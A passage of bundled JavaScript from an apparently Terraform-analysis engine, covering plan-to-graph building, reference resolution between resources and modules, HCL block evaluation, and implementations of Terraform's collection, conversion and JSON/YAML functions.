    name: name.name,
    index: name.index
  };
}
function entriesOf(map) {
  const entries = /* @__PURE__ */ new Map();
  for (const entry of map.entries) entries.set(entry.key, entry);
  return entries;
}
function mapValue(map, key) {
  let found;
  for (const entry of map.entries) if (entry.key === key) found = entry.value;
  return found;
}
function emptyMap(range2) {
  return { kind: "map", range: range2, entries: [] };
}
function isNull(node) {
  return node.kind === "scalar" && node.value === null;
}
function describe(node) {
  if (node.kind === "map") return "an object";
  if (node.kind === "list") return "an array";
  if (node.value === null) return "null";
  return `a ${typeof node.value}`;
}

// packages/engine/src/graph/terraform/build-plan.ts
var originsByGraph = /* @__PURE__ */ new WeakMap();
function planOrigins(graph) {
  return originsByGraph.get(graph) ?? /* @__PURE__ */ new Map();
}
function terraformResourceId(file, address) {
  return `terraform:${file}::${address}`;
}
function buildPlan(documents, graph) {
  let origins = originsByGraph.get(graph);
  if (!origins) originsByGraph.set(graph, origins = /* @__PURE__ */ new Map());
  for (const document of documents) {
    if (document.kind !== "plan" && document.kind !== "state") continue;
    const { plan, diagnostics } = readPlan(document);
    graph.diagnostics.push(...diagnostics);
    if (!plan) continue;
    const instances = [];
    const add = (resource, address) => {
      if (!graph.add(resource)) return;
      instances.push({ id: resource.id, address });
      const declaration = plan.configuration && findConfigResource(plan.configuration, address.modulePath, address.configAddress);
      origins.set(resource.id, {
        moduleCallChain: address.modulePath,
        configAddress: address.configAddress,
        moduleAddress: address.moduleAddress,
        index: address.index,
        configuration: declaration && { file: plan.file, ...declaration.range }
      });
    };
    if (plan.kind === "state") {
      for (const entry of plan.stateResources) add(valuesResource(entry, plan.file, "state"), entry);
      continue;
    }
    const seen = /* @__PURE__ */ new Set();
    for (const change of plan.resourceChanges) {
      if (change.deposed !== void 0) continue;
      seen.add(change.address);
      if (leavesTerraform(change.actions)) continue;
      add(changeResource(change, plan.file), change);
    }
    for (const entry of plan.plannedResources) {
      if (seen.has(entry.address)) continue;
      seen.add(entry.address);
      add(valuesResource(entry, plan.file, "plan"), entry);
    }
    for (const entry of plan.priorStateResources) {
      if (entry.mode !== "data" || seen.has(entry.address)) continue;
      seen.add(entry.address);
      add(valuesResource(entry, plan.file, "plan"), entry);
    }
    if (plan.configuration) new PlanReferences(plan.configuration, instances).link(graph);
  }
}
function leavesTerraform(actions) {
  return actions.length > 0 && actions.every((action) => action === "delete" || action === "forget");
}
function changeResource(change, file) {
  const source = new SourceMap(file, change.node.range, change.header, change.after?.kind === "map" ? change.after : void 0);
  let attributes = change.after?.kind === "map" ? treeToValue(change.after) : emptyObject();
  if (change.afterUnknown) {
    const marked = markUnknown(attributes, change.afterUnknown);
    if (isObject(marked)) attributes = marked;
  }
  return terraformResource(change, file, "plan", attributes, source);
}
function valuesResource(entry, file, origin) {
  const source = new SourceMap(file, entry.node.range, entry.header, entry.values?.kind === "map" ? entry.values : void 0);
  const attributes = entry.values?.kind === "map" ? treeToValue(entry.values) : emptyObject();
  return terraformResource(entry, file, origin, attributes, source);
}
function terraformResource(address, file, origin, attributes, source) {
  return {
    id: terraformResourceId(file, address.address),
    platform: "terraform",
    type: address.type,
    name: address.address,
    origin,
    attributes,
    source,
    mode: address.mode
  };
}
function markUnknown(value, marks) {
  if (marks.kind === "scalar") return marks.value === true ? Unknown : value;
  if (marks.kind === "map") {
    let object = isObject(value) ? value : void 0;
    for (const entry of marks.entries) {
      const before = object?.[entry.key];
      const after = markUnknown(before, entry.value);
      if (after === before || after === void 0) continue;
      object ??= emptyObject();
      object[entry.key] = after;
    }
    return object ?? value;
  }
  let list = Array.isArray(value) ? value : void 0;
  marks.items.forEach((item, index) => {
    const before = list?.[index];
    const after = markUnknown(before, item);
    if (after === before || after === void 0) return;
    list ??= [];
    while (list.length < index) list.push(null);
    list[index] = after;
  });
  return list ?? value;
}
var NON_RESOURCE_ROOTS = /* @__PURE__ */ new Set(["local", "each", "count", "path", "terraform", "self"]);
var PlanReferences = class {
  constructor(configuration, instances) {
    this.configuration = configuration;
    this.#modules.set("", { address: "", path: [], children: /* @__PURE__ */ new Map() });
    for (const instance of instances) {
      this.#byId.set(instance.id, instance);
      const { moduleAddress, configAddress } = instance.address;
      const key = groupKey(moduleAddress, configAddress);
      const group = this.#groups.get(key);
      if (group) group.push(instance);
      else this.#groups.set(key, [instance]);
      this.moduleInstance(moduleAddress);
    }
  }
  configuration;
  /** Instances by module instance address and address in module. */
  #groups = /* @__PURE__ */ new Map();
  #byId = /* @__PURE__ */ new Map();
  #modules = /* @__PURE__ */ new Map();
  /** Resolved variables and outputs per module instance; an entry in progress is empty, which breaks cycles. */
  #memo = /* @__PURE__ */ new Map();
  link(graph) {
    for (const group of this.#groups.values()) {
      const { moduleAddress, modulePath, configAddress } = group[0].address;
      const declaration = findConfigResource(this.configuration, modulePath, configAddress);
      const module = this.#modules.get(moduleAddress);
      if (!declaration || !module) continue;
      const edges = [];
      const follow = (via, references) => {
        const targets = this.resolveAll(references, module);
        if (targets.length === 0) return;
        const pairByIndex = references.some((reference) => reference === "count.index" || reference.startsWith("each."));
        edges.push({ via, targets: this.targetGroups(targets), pairByIndex });
      };
      if (declaration.expressions) {
        for (const { via, references } of expressionReferences(declaration.expressions, [])) follow(via, references);
      }
      if (declaration.countExpression) follow(["count"], referencesOf(declaration.countExpression));
      if (declaration.forEachExpression) follow(["for_each"], referencesOf(declaration.forEachExpression));
      if (declaration.dependsOn.length > 0) follow(["depends_on"], declaration.dependsOn);
      for (const instance of group) {
        const index = instance.address.index;
        for (const { via, targets, pairByIndex } of edges) {
          for (const target of targets) {
            const paired = pairByIndex && index !== void 0 ? target.byIndex.get(index) : void 0;
            for (const to of paired !== void 0 ? [paired] : target.ids) {
              if (to !== instance.id) graph.link({ from: instance.id, to, kind: "references", via });
            }
          }
        }
      }
    }
  }
  targetGroups(ids) {
    const groups = /* @__PURE__ */ new Map();
    for (const id of ids) {
      const instance = this.#byId.get(id);
      if (!instance) continue;
      const key = groupKey(instance.address.moduleAddress, instance.address.configAddress);
      let group = groups.get(key);
      if (!group) groups.set(key, group = { ids: [], byIndex: /* @__PURE__ */ new Map() });
      group.ids.push(id);
      if (instance.address.index !== void 0) group.byIndex.set(instance.address.index, id);
    }
    return [...groups.values()];
  }
  moduleInstance(address) {
    const known = this.#modules.get(address);
    if (known) return known;
    const steps = splitAddress(address);
    if (!steps || steps.length % 2 !== 0) return void 0;
    let parent = this.#modules.get("");
    for (let at = 0; at < steps.length; at += 2) {
      const call = steps[at + 1];
      const instanceAddress = address.slice(0, call.end);
      let instance = this.#modules.get(instanceAddress);
      if (!instance) {
        instance = { address: instanceAddress, path: [...parent.path, call.name], index: call.index, parent, children: /* @__PURE__ */ new Map() };
        this.#modules.set(instanceAddress, instance);
        const siblings = parent.children.get(call.name);
        if (siblings) siblings.push(instance);
        else parent.children.set(call.name, [instance]);
      }
      parent = instance;
    }
    return parent;
  }
  resolveAll(references, module) {
    const targets = /* @__PURE__ */ new Set();
    for (const reference of mostSpecific(references)) {
      for (const target of this.resolve(reference, module)) targets.add(target);
    }
    return [...targets];
  }
  resolve(reference, module) {
    const steps = splitAddress(reference);
    if (!steps || steps.length < 2 || NON_RESOURCE_ROOTS.has(steps[0].name)) return [];
    const [first, second] = steps;
    switch (first.name) {
      case "var":
        return this.variable(module, second.name);
      case "module": {
        const children = module.children.get(second.name) ?? [];
        const output = steps[2]?.name;
        return children.filter((child) => second.index === void 0 || child.index === second.index).flatMap((child) => this.outputs(child, output));
      }
      case "data":
        return steps.length < 3 ? [] : this.instances(module, `data.${second.name}.${steps[2].name}`, steps[2].index);
      default:
        return this.instances(module, `${first.name}.${second.name}`, second.index);
    }
  }
  instances(module, configAddress, index) {
    const group = this.#groups.get(groupKey(module.address, configAddress)) ?? [];
    return group.filter((instance) => index === void 0 || instance.address.index === index).map((instance) => instance.id);
  }
  /** A module variable is what the parent passed in its module call. */
  variable(module, name) {
    const parent = module.parent;
    if (!parent) return [];
    return this.memoised(`var${module.address}${name}`, () => {
      const argument = findConfigModule(this.configuration, module.path)?.callExpressions?.entries.find((entry) => entry.key === name);
      return argument ? this.resolveAll(referencesOf(argument.value), parent) : [];
    });
  }
  /** A reference to a whole module (`module.m`) stands for all of its outputs. */
  outputs(module, name) {
    const outputs = findConfigModule(this.configuration, module.path)?.outputs;
    if (!outputs) return [];
    const names = name === void 0 ? [...outputs.keys()] : [name];
    return names.flatMap(
      (output) => this.memoised(`output${module.address}${output}`, () => {
        const expression = outputs.get(output);
        return expression ? this.resolveAll(referencesOf(expression), module) : [];
      })
    );
  }
  memoised(key, compute) {
    const known = this.#memo.get(key);
    if (known) return known;
    this.#memo.set(key, []);
    const value = compute();
    this.#memo.set(key, value);
    return value;
  }
};
function groupKey(moduleAddress, configAddress) {
  return `${moduleAddress}${configAddress}`;
}
function* expressionReferences(node, via) {
  if (node.kind === "list") {
    for (let index = 0; index < node.items.length; index++) yield* expressionReferences(node.items[index], [...via, index]);
    return;
  }
  if (node.kind !== "map") return;
  if (isExpression(node)) {
    const references = referencesOf(node);
    if (references.length > 0) yield { via, references };
    return;
  }
  for (const entry of node.entries) yield* expressionReferences(entry.value, [...via, entry.key]);
}
function isExpression(node) {
  return node.entries.every(
    (entry) => entry.key === "constant_value" || entry.key === "references" && entry.value.kind === "list"
  );
}
function referencesOf(expression) {
  if (expression.kind !== "map") return [];
  const references = [];
  for (const entry of expression.entries) {
    if (entry.key !== "references" || entry.value.kind !== "list") continue;
    for (const item of entry.value.items) {
      if (item.kind === "scalar" && typeof item.value === "string") references.push(item.value);
    }
  }
  return references;
}
function mostSpecific(references) {
  const prefixes = /* @__PURE__ */ new Set();
  for (const reference of references) {
    const steps = splitAddress(reference);
    if (!steps) continue;
    steps.forEach((step, position) => {
      if (step.index !== void 0) prefixes.add(reference.slice(0, step.nameEnd));
      if (position < steps.length - 1) prefixes.add(reference.slice(0, step.end));
    });
  }
  return [...new Set(references)].filter((reference) => !prefixes.has(reference));
}

// packages/engine/src/graph/terraform/references.ts
var CONTEXT_ROOTS = /* @__PURE__ */ new Set(["self", "each", "count", "path", "terraform"]);
function referencedAddress(traversal) {
  const { root, steps } = traversal;
  if (CONTEXT_ROOTS.has(root)) return void 0;
  const first = steps[0]?.type === "attr" ? steps[0].name : void 0;
  if (first === void 0) return void 0;
  switch (root) {
    case "var":
      return `var.${first}`;
    case "local":
      return `local.${first}`;
    case "module":
      return `module.${first}`;
    case "data": {
      const second = steps[1]?.type === "attr" ? steps[1].name : void 0;
      return second === void 0 ? void 0 : `data.${first}.${second}`;
    }
    default:
      return `${root}.${first}`;
  }
}
var NOTHING_BOUND = /* @__PURE__ */ new Set();
function forEachReference(expression, visit, bound = NOTHING_BOUND) {
  walk(expression, bound, visit);
}
function walk(current, scope, visit) {
  switch (current.kind) {
    case "literal":
      return;
    case "traversal": {
      if (!scope.has(current.root)) {
        const address = referencedAddress(current);
        if (address) visit(address, current);
      }
      for (const step of current.steps) if (step.type === "index") walk(step.key, scope, visit);
      return;
    }
    case "template":
      walkParts(current.parts, scope, visit);
      return;
    case "tuple":
      for (const item of current.items) walk(item, scope, visit);
      return;
    case "object":
      for (const item of current.items) {
        walk(item.key, scope, visit);
        walk(item.value, scope, visit);
      }
      return;
    case "call":
      for (const arg of current.args) walk(arg, scope, visit);
      return;
    case "conditional":
      walk(current.condition, scope, visit);
      walk(current.trueResult, scope, visit);
      walk(current.falseResult, scope, visit);
      return;
    case "unary":
      walk(current.operand, scope, visit);
      return;
    case "binary":
      walk(current.left, scope, visit);
      walk(current.right, scope, visit);
      return;
    case "for": {
      walk(current.collection, scope, visit);
      const inner = withNames(scope, current.keyVar, current.valueVar);
      if (current.keyExpr) walk(current.keyExpr, inner, visit);
      walk(current.valueExpr, inner, visit);
      if (current.condition) walk(current.condition, inner, visit);
      return;
    }
    case "splat":
      walk(current.source, scope, visit);
      for (const step of current.each) if (step.type === "index") walk(step.key, scope, visit);
      return;
    case "index":
      walk(current.source, scope, visit);
      walk(current.key, scope, visit);
      return;
    case "getAttr":
      walk(current.source, scope, visit);
      return;
    case "parenthesis":
      walk(current.expression, scope, visit);
      return;
  }
}
function walkParts(parts, scope, visit) {
  for (const part of parts) {
    if (typeof part === "string") continue;
    if (part.kind === "templateIf") {
      walk(part.condition, scope, visit);
      walkParts(part.then, scope, visit);
      walkParts(part.else, scope, visit);
    } else if (part.kind === "templateFor") {
      walk(part.collection, scope, visit);
      walkParts(part.body, withNames(scope, part.keyVar, part.valueVar), visit);
    } else {
      walk(part, scope, visit);
    }
  }
}
function withNames(scope, ...names) {
  return { has: (name) => name !== "" && names.includes(name) || scope.has(name) };
}

// packages/engine/src/graph/terraform/blocks.ts
var ADDRESS_ARGUMENTS = /* @__PURE__ */ new Set(["depends_on", "provider", "providers", "ignore_changes", "replace_triggered_by"]);
var BlockEvaluator = class _BlockEvaluator {
  constructor(file, block, evaluator) {
    this.evaluator = evaluator;
    this.#source = new SourceMap(file, block.range, block.headerRange);
  }
  evaluator;
  #source;
  #references = [];
  /**
   * `known` holds values of top-level attributes computed already (`count`
   * and `for_each`, evaluated once for all instances rather than per instance).
   */
  static evaluate(file, block, evaluator, bindings, known = /* @__PURE__ */ new Map()) {
    const builder = new _BlockEvaluator(file, block, evaluator);
    const attributes = builder.body(block.body, [], bindings, known);
    return { attributes, source: builder.#source, references: builder.#references };
  }
  body(body, path15, bindings, known) {
    const object = emptyObject();
    for (const attribute of body.attributes) {
      if (hasKey(object, attribute.name)) continue;
      const attributePath = [...path15, attribute.name];
      const value = known.get(attribute.name);
      if (value !== void 0) object[attribute.name] = value;
      else if (ADDRESS_ARGUMENTS.has(attribute.name)) object[attribute.name] = evaluateStatic(attribute.expression);
      else object[attribute.name] = this.evaluator.evaluateOrUnknown(attribute.expression, bindings);
      this.#source.set(attributePath, { key: attribute.nameRange, value: attribute.expression.range });
      this.positions(attribute.expression, attributePath, bindings);
    }
    const counts = /* @__PURE__ */ new Map();
    for (const block of body.blocks) {
      if (block.type === "dynamic" && block.labels.length === 1) {
        this.dynamicBlock(block, object, path15, bindings, counts);
        continue;
      }
      const existing = object[block.type];
      if (hasKey(object, block.type) && !Array.isArray(existing)) {
        this.referencesIn(block.body, [...path15, block.type], bindings);
        continue;
      }
      this.addBlock(object, block.type, block, block.body, path15, bindings, counts);
    }
    return object;
  }
  addBlock(object, type, block, body, path15, bindings, counts) {
    const index = counts.get(type) ?? 0;
    counts.set(type, index + 1);
    const blockPath = [...path15, type, index];
    if (index === 0 && !this.#source.get([...path15, type])) this.#source.set([...path15, type], { key: block.typeRange, value: block.range });
    this.#source.set(blockPath, { key: block.typeRange, value: block.range });
    const value = this.body(body, blockPath, bindings, /* @__PURE__ */ new Map());
    const list = object[type];
    if (Array.isArray(list)) list.push(value);
    else object[type] = [value];
  }
  /**
   * `dynamic "x" { for_each = …; iterator = it; content { … } }`: one `x`
   * block per element, with `it.key` and `it.value` (the label when there is
   * no iterator) bound in `content`. An unknown `for_each` makes `x` Unknown.
   */
  dynamicBlock(block, object, path15, bindings, counts) {
    const name = block.labels[0];
    const blockPath = [...path15, name];
    this.#source.set(blockPath, { key: block.labelRanges[0] ?? block.typeRange, value: block.range });
    const forEach = block.body.attributes.find((attribute) => attribute.name === "for_each");
    const content = block.body.blocks.find((inner) => inner.type === "content");
    const iterator = dynamicIterator(block);
    for (const attribute of block.body.attributes) {
      if (attribute.name !== "iterator") this.collectReferences(attribute.expression, blockPath, bindings);
    }
    const collection = forEach ? this.evaluator.evaluateOrUnknown(forEach.expression, bindings) : Unknown;
    const entries = iterationEntries(collection);
    if (!content || entries === void 0 || hasKey(object, name) && !Array.isArray(object[name])) {
      object[name] = Unknown;
      if (content) this.referencesIn(content.body, blockPath, new Map([...bindings, [iterator, Unknown]]));
      return;
    }
    try {
      this.evaluator.budget.expansion(entries.length, `dynamic "${name}"`);
    } catch (error) {
      if (!(error instanceof EvaluationError)) throw error;
      object[name] = Unknown;
      return;
    }
    if (entries.length === 0 && !hasKey(object, name)) {
      this.referencesIn(content.body, blockPath, new Map([...bindings, [iterator, Unknown]]));
      return;
    }
    for (const [key, value] of entries) {
      const inner = new Map(bindings);
      const element = emptyObject();
      element.key = key;
      element.value = value;
      inner.set(iterator, element);
      this.addBlock(object, name, content, content.body, path15, inner, counts);
    }
  }
  /** References anywhere in a body whose values are unknown (dynamic content without elements). */
  referencesIn(body, path15, bindings) {
    for (const attribute of body.attributes) this.collectReferences(attribute.expression, path15, bindings);
    for (const block of body.blocks) {
      if (block.type === "dynamic" && block.labels.length === 1) {
        for (const attribute of block.body.attributes) {
          if (attribute.name !== "iterator") this.collectReferences(attribute.expression, path15, bindings);
        }
        const inner = new Map([...bindings, [dynamicIterator(block), Unknown]]);
        for (const content of block.body.blocks) this.referencesIn(content.body, path15, inner);
      } else {
        this.referencesIn(block.body, path15, bindings);
      }
    }
  }
  /**
   * Records the position of every item of tuple and object literals under
   * `path`, and the references of the expression at the deepest such path.
   */
  positions(expression, path15, bindings) {
    if (expression.kind === "tuple") {
      expression.items.forEach((item, index) => {
        const itemPath = [...path15, index];
        this.#source.set(itemPath, { value: item.range });
        this.positions(item, itemPath, bindings);
      });
      return;
    }
    if (expression.kind === "object") {
      for (const item of expression.items) {
        const key = this.staticKey(item.key, bindings);
        if (key === void 0) {
          this.collectReferences(item.key, path15, bindings);
          this.collectReferences(item.value, path15, bindings);
          continue;
        }
        const itemPath = [...path15, key];
        this.#source.set(itemPath, { key: item.key.range, value: item.value.range });
        this.positions(item.value, itemPath, bindings);
      }
      return;
    }
    if (expression.kind === "parenthesis") {
      this.positions(expression.expression, path15, bindings);
      return;
    }
    this.collectReferences(expression, path15, bindings);
  }
  staticKey(expression, bindings) {
    if (expression.kind === "literal" && expression.value !== null) {
      return typeof expression.value === "number" ? formatNumber(expression.value) : String(expression.value);
    }
    if (expression.kind === "traversal" && expression.steps.length === 0) return expression.root;
    const key = this.evaluator.evaluateOrUnknown(expression, bindings);
    if (typeof key === "string") return key;
    if (typeof key === "number") return formatNumber(key);
    if (typeof key === "boolean") return String(key);
    return void 0;
  }
  collectReferences(expression, path15, bindings) {
    forEachReference(expression, (address, traversal) => this.#references.push({ address, traversal, bindings, via: path15 }), bindings);
  }
};
function iterationEntries(collection) {
  if (isUnknown(collection)) return void 0;
  if (collection === null) return [];
  if (Array.isArray(collection)) {
    if (collection.some(isUnknown)) return void 0;
    return collection.map((item, index) => [index, item]);
  }
  if (isObject(collection)) return sortedKeys(collection).map((key) => [key, collection[key]]);
  return void 0;
}
function dynamicIterator(block) {
  const iterator = block.body.attributes.find((attribute) => attribute.name === "iterator")?.expression;
  return iterator?.kind === "traversal" && iterator.steps.length === 0 ? iterator.root : block.labels[0];
}

// packages/engine/src/graph/terraform/functions/function.ts
function fn(arity, call, partial = false) {
  return { arity, call, partial };
}

// packages/engine/src/graph/terraform/functions/collections.ts
function unifyList(items) {
  const hasString = items.some((item) => typeof item === "string");
  const hasOther = items.some((item) => typeof item === "number" || typeof item === "boolean");
  if (!hasString || !hasOther) return [...items];
  return items.map((item) => typeof item === "number" || typeof item === "boolean" ? asString(item) : item);
}
function unifyMap(object) {
  const keys = Object.keys(object);
  const unified = unifyList(keys.map((key) => object[key]));
  return objectOf(keys.map((key, index) => [key, unified[index]]));
}
function elementsOf(value, what) {
  if (Array.isArray(value)) return value;
  if (isObject(value)) return sortedKeys(value).map((key) => value[key]);
  return asList2(value, what);
}
function range(args) {
  let start = 0;
  let limit;
  let step = 1;
  if (args.length === 1) limit = asNumber(args[0]);
  else {
    start = asNumber(args[0]);
    limit = asNumber(args[1]);
    step = args.length > 2 ? asNumber(args[2]) : start > limit ? -1 : 1;
  }
  if (step === 0) fail("range: step must not be zero");
  if (step > 0 && start > limit || step < 0 && start < limit) {
    if (args.length < 3) step = -step;
    else return [];
  }
  const out = [];
  for (let value = start; step > 0 ? value < limit : value > limit; value += step) {
    if (out.length >= 1024) fail("range: more than 1024 values were generated");
    out.push(value);
  }
  return out;
}
function flatten(value, out, context) {
  for (const item of asList2(value)) {
    if (isUnknown(item)) return false;
    if (Array.isArray(item)) {
      if (!flatten(item, out, context)) return false;
    } else out.push(item);
    context.budget.expansion(out.length, "flatten");
  }
  return true;
}
function setProduct(sets, context) {
  const total = sets.reduce((product, set) => product * set.length, 1);
  context.budget.expansion(total, "setproduct");
  let out = [[]];
  for (const set of sets) out = out.flatMap((prefix) => set.map((item) => [...prefix, item]));
  return out;
}
function lookup(map, key, fallback) {
  if (isUnknown(map) || isUnknown(key)) return Unknown;
  const object = asObject(map, "lookup map");
  const name = asString(key);
  if (hasKey(object, name)) return object[name];
  if (fallback === void 0) fail(`the given object has no attribute "${name}"`);
  return fallback;
}
function coalesce(args) {
  const stringly = args.some((arg) => typeof arg === "string");
  for (const arg of args) {
    if (isUnknown(arg)) return Unknown;
    if (arg === null || arg === "") continue;
    return stringly && (typeof arg === "number" || typeof arg === "boolean") ? asString(arg) : arg;
  }
  return fail("no non-null, non-empty-string arguments");
}
function mergeObjects(args) {
  const out = emptyObject();
  for (const arg of args) {
    if (arg === null) continue;
    if (isUnknown(arg)) return Unknown;
    const object = asObject(arg, "merge argument");
    for (const key of Object.keys(object)) {
      delete out[key];
      out[key] = object[key];
    }
  }
  return out;
}
function transpose(value) {
  const object = asObject(value);
  const out = emptyObject();
  for (const key of sortedKeys(object)) {
    for (const item of asList2(object[key])) {
      const name = asString(item);
      const list = out[name];
      if (Array.isArray(list)) list.push(key);
      else out[name] = [key];
    }
  }
  return out;
}
function chunklist(list, size) {
  const items = asList2(list);
  const chunk = asInteger(size);
  if (chunk < 0) fail("the size argument must be positive");
  if (chunk === 0) return [items];
  const out = [];
  for (let index = 0; index < items.length; index += chunk) out.push(items.slice(index, index + chunk));
  return out;
}
function sortStrings(list) {
  const strings = asList2(list).map((item) => asString(item, "sort element"));
  return strings.sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)));
}
function partialLength(value) {
  if (isUnknown(value)) return Unknown;
  if (typeof value === "string") return [...value].length;
  if (Array.isArray(value)) return value.length;
  if (isObject(value)) return Object.keys(value).length;
  return fail("length: argument must be a string, a collection or a structure");
}
var collectionFunctions = /* @__PURE__ */ new Map([
  ["length", fn([1, 1], ([value]) => partialLength(value), true)],
  [
    "concat",
    fn(
      [1],
      (args) => {
        const out = [];
        for (const arg of args) {
          if (isUnknown(arg)) return Unknown;
          out.push(...asList2(arg, "concat argument"));
        }
        return out;
      },
      true
    )
  ],
  ["merge", fn([0], mergeObjects, true)],
  ["lookup", fn([2, 3], ([map, key, fallback]) => lookup(map, key, fallback), true)],
  [
    "element",
    fn(
      [2, 2],
      ([list, index]) => {
        if (isUnknown(list) || isUnknown(index)) return Unknown;
        const items = asList2(list);
        const at = asInteger(index);
        if (items.length === 0) fail("cannot use element function with an empty list");
        if (at < 0) fail("cannot use element function with a negative index");
        return items[at % items.length];
      },
      true
    )
  ],
  [
    "index",
    fn([2, 2], ([list, value]) => {
      const found = asList2(list).findIndex((item) => equals(item, value) === true);
      if (found === -1) fail("item not found");
      return found;
    })
  ],
  [
    "keys",
    fn(
      [1, 1],
      ([map]) => {
        if (isUnknown(map)) return Unknown;
        return sortedKeys(asObject(map));
      },
      true
    )
  ],
  [
    "values",
    fn(
      [1, 1],
      ([map]) => {
        if (isUnknown(map)) return Unknown;
        const object = asObject(map);
        return sortedKeys(object).map((key) => object[key]);
      },
      true
    )
  ],
  ["contains", fn([2, 2], ([list, value]) => elementsOf(list, "contains list").some((item) => equals(item, value) === true))],
  ["distinct", fn([1, 1], ([list]) => distinctValues(unifyList(asList2(list))))],
  [
    "flatten",
    fn(
      [1, 1],
      ([list], context) => {
        if (isUnknown(list)) return Unknown;
        const out = [];
        return flatten(list, out, context) ? out : Unknown;
      },
      true
    )
  ],
  [
    "slice",
    fn(
      [3, 3],
      ([list, start, end]) => {
        if (isUnknown(list) || isUnknown(start) || isUnknown(end)) return Unknown;
        const items = asList2(list);
        const from = asInteger(start);
        const to = asInteger(end);
        if (from < 0 || to > items.length || from > to) fail("slice: index out of range");
        return items.slice(from, to);
      },
      true
    )
  ],
  ["sort", fn([1, 1], ([list]) => sortStrings(list))],
  ["reverse", fn([1, 1], ([list]) => [...asList2(list)].reverse())],
  ["range", fn([1, 3], range)],
  [
    "zipmap",
    fn([2, 2], ([keys, values]) => {
      const names = asList2(keys);
      const items = asList2(values);
      if (names.length !== items.length) fail("zipmap: number of keys and values must match");
      return objectOf(names.map((name, index) => [asString(name), items[index]]));
    })
  ],
  ["setproduct", fn([1], (args, context) => setProduct(args.map((arg) => elementsOf(arg, "setproduct argument")), context))],
  ["setunion", fn([1], (args) => toSet(unifyList(args.flatMap((arg) => asList2(arg)))))],
  [
    "setintersection",
    fn([1], ([first, ...rest]) => {
      const others = rest.map((arg) => new Set(asList2(arg).map(identity)));
      return toSet(unifyList(asList2(first)).filter((item) => others.every((set) => set.has(identity(item)))));
    })
  ],
  [
    "setsubtract",
    fn([2, 2], ([a, b]) => {
      const removed = new Set(asList2(b).map(identity));
      return toSet(unifyList(asList2(a)).filter((item) => !removed.has(identity(item))));
    })
  ],
  ["coalesce", fn([1], coalesce, true)],
  [
    "coalescelist",
    fn(
      [1],
      (args) => {
        for (const arg of args) {
          if (isUnknown(arg)) return Unknown;
          if (arg === null) continue;
          if (asList2(arg).length > 0) return arg;
        }
        return fail("no non-null arguments");
      },
      true
    )
  ],
  ["compact", fn([1, 1], ([list]) => asList2(list).filter((item) => item !== null && item !== "").map((item) => asString(item)))],
  [
    "one",
    fn(
      [1, 1],
      ([list]) => {
        if (isUnknown(list)) return Unknown;
        if (list === null) return null;
        const items = asList2(list);
        if (items.length > 1) fail("must be a list, set, or tuple value with either zero or one elements");
        return items.length === 0 ? null : items[0];
      },
      true
    )
  ],
  ["alltrue", fn([1, 1], ([list]) => asList2(list).every((item) => asBool(item)))],
  ["anytrue", fn([1, 1], ([list]) => asList2(list).some((item) => asBool(item)))],
  [
    "sum",
    fn([1, 1], ([list]) => {
      const items = elementsOf(list, "sum argument");
      if (items.length === 0) fail("cannot sum an empty list");
      return items.reduce((total, item) => total + asNumber(item), 0);
    })
  ],
  ["transpose", fn([1, 1], ([map]) => transpose(map))],
  [
    "matchkeys",
    fn([3, 3], ([values, keys, search]) => {
      const items = asList2(values);
      const names = asList2(keys);
      if (items.length !== names.length) fail("matchkeys: length of keys and values should be equal");
      const wanted = new Set(asList2(search).map(identity));
      return items.filter((_, index) => wanted.has(identity(names[index])));
    })
  ],
  ["chunklist", fn([2, 2], ([list, size]) => chunklist(list, size))]
]);
function forEachKeys(value) {
  if (isUnknown(value)) return void 0;
  if (isObject(value)) return sortedKeys(value).map((key) => [key, value[key]]);
  if (Array.isArray(value)) {
    if (!value.every(isFullyKnown2)) return void 0;
    return toSet(value).map((item) => {
      if (item === null) fail("for_each set includes null");
      const key = keyString(item, "for_each set element");
      return [key, key];
    });
  }
  return fail("for_each must be a map or a set of strings");
}

// packages/engine/src/graph/terraform/functions/conversions.ts
function primitive(convert) {
  return fn(
    [1, 1],
    ([value]) => {
      if (value === null) return null;
      if (isUnknown(value)) return Unknown;
      return convert(value);
    },
    true
  );
}
var conversionFunctions = /* @__PURE__ */ new Map([
  [
    "tostring",
    primitive((value) => {
      if (Array.isArray(value) || isObject(value)) fail("cannot convert a collection to string");
      return asString(value);
    })
  ],
  ["tonumber", primitive((value) => asNumber(value))],
  [
    "tobool",
    primitive((value) => {
      if (typeof value === "number") fail("cannot convert number to bool");
      return asBool(value);
    })
  ],
  ["tolist", primitive((value) => unifyList(isObject(value) ? fail("cannot convert an object to list") : asList2(value)))],
  ["toset", primitive((value) => toSet(unifyList(isObject(value) ? fail("cannot convert an object to set") : asList2(value))))],
  ["tomap", primitive((value) => isObject(value) ? unifyMap(value) : fail("cannot convert to map"))]
]);

// packages/engine/src/graph/terraform/functions/encoding.ts
var import_yaml = __toESM(require_dist(), 1);
import { createHash } from "node:crypto";
var MAX_DECODED_LENGTH = 4 * 1024 * 1024;
function fromJson(data) {
  if (data === null || typeof data === "string" || typeof data === "boolean") return data;
  if (typeof data === "number") return data;
  if (Array.isArray(data)) return data.map(fromJson);
  if (typeof data === "object") {
    const object = emptyObject();
    for (const [key, value] of Object.entries(data)) object[key] = fromJson(value);
    return object;
  }
  if (typeof data === "bigint") return Number(data);
  if (data instanceof Date) return data.toISOString();
  return fail("unsupported value in document");
}
function jsonDecode(text) {
  if (text.length > MAX_DECODED_LENGTH) fail("document too large");
  try {
    return fromJson(JSON.parse(text));
  } catch (error) {
    return fail(`invalid JSON: ${error instanceof Error ? error.message : String(error)}`);
  }
}
function yamlDecode(text) {
  if (text.length > MAX_DECODED_LENGTH) fail("document too large");
  let data;
  let problem;
  try {
    const documents = import_yaml.default.parseAllDocuments(text, { version: "1.1", uniqueKeys: true });
    if (documents.length > 1) problem = "only one document is allowed";
    else if (documents.length === 1 && documents[0].errors.length > 0) problem = documents[0].errors[0].message;
    else data = documents.length === 0 ? null : documents[0].toJS({ maxAliasCount: 100 });
  } catch (error) {
    problem = error instanceof Error ? error.message : String(error);
  }
  if (problem !== void 0) fail(`invalid YAML: ${problem}`);
  return fromJson(data);
}
function yamlEncode(value) {
  const document = new import_yaml.default.Document(toPlain(value));
  import_yaml.default.visit(document, {
    Scalar(_key, node) {
      if (typeof node.value === "string" && node.value.includes("\n")) node.type = "BLOCK_LITERAL";
    }
  });
  return document.toString({ defaultStringType: "QUOTE_DOUBLE", defaultKeyType: "QUOTE_DOUBLE", lineWidth: 0, indentSeq: false });
}
function toPlain(value) {
  if (Array.isArray(value)) return value.map(toPlain);
